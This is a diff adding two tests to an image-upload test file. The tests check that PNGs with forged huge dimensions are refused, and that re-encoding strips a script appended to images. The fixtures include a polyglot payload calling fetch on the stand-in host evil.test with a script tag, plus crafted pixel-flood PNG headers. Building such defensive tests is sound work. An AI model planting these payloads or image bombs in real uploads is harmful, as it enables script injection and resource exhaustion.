@@ -1,6 +1,7 @@
 import { access, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { crc32, deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { type Connection, connect } from '#db/connect.ts';
@@ -111,6 +112,55 @@ test('what is no picture is refused by its bytes, whatever it calls itself', asy
     .toBuffer();
   expect(bomb.length).toBeLessThan(1_000_000);
   expect(await refused(bomb)).toBe('picture-too-many-pixels');
+});
+
+test('a head that promises more pixels than there are is refused before any is made', async () => {
+  for (const [width, height] of [
+    [60_000, 60_000],
+    [2_000_000_000, 1],
+    [1, 2_000_000_000],
+  ] as const) {
+    const head = Buffer.alloc(13);
+    head.writeUInt32BE(width, 0);
+    head.writeUInt32BE(height, 4);
+    head.set([8, 6, 0, 0, 0], 8);
+    const chunk = (name: string, data: Buffer) => {
+      const named = Buffer.concat([Buffer.from(name), data]);
+      const sizes = Buffer.alloc(8);
+      sizes.writeUInt32BE(data.length, 0);
+      sizes.writeUInt32BE(crc32(named), 4);
+      return Buffer.concat([sizes.subarray(0, 4), named, sizes.subarray(4)]);
+    };
+    const flood = Buffer.concat([
+      Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
+      chunk('IHDR', head),
+      chunk('IDAT', deflateSync(Buffer.alloc(1_000))),
+      chunk('IEND', Buffer.alloc(0)),
+    ]);
+    const outcome = await storePicture(db, store, { bytes: flood });
+    expect(outcome.ok ? 'taken' : outcome.reason).toMatch(/^picture-(?:too-many-pixels|broken)$/);
+  }
+});
+
+test('of a picture that is a script as well only the picture is kept, of a moving one the first frame', async () => {
+  const script = Buffer.from('*/=1;fetch("//evil.test");/*<script>window.ran=1</script>');
+  for (const format of ['gif', 'png', 'jpeg', 'webp'] as const) {
+    const bytes = Buffer.concat([await paint(40, 40).toFormat(format).toBuffer(), script]);
+    const file = Buffer.from((await store.find(await stored(bytes), 40, 'webp')) ?? []);
+    expect(await sharp(file).metadata()).toMatchObject({ format: 'webp', width: 40, height: 40 });
+    expect(file.includes('evil.test') || file.includes('<script')).toBe(false);
+  }
+  const still = (_: unknown, at: number) =>
+    sharp({ create: { width: 30, height: 30, channels: 3, background: { r: at * 20, g: 240 - at * 20, b: 0 } } })
+      .png()
+      .toBuffer();
+  const stills = Array.from({ length: 12 }, still);
+  const frames = await sharp(await Promise.all(stills), { join: { animated: true } })
+    .gif()
+    .toBuffer();
+  expect((await sharp(frames, { animated: true }).metadata()).pages).toBe(12);
+  const kept = Buffer.from((await store.find(await stored(frames), 30, 'webp')) ?? []);
+  expect((await sharp(kept, { animated: true }).metadata()).pages ?? 1).toBe(1);
 });
 
 test('the same bytes are one picture, also when many send them at once', async () => {
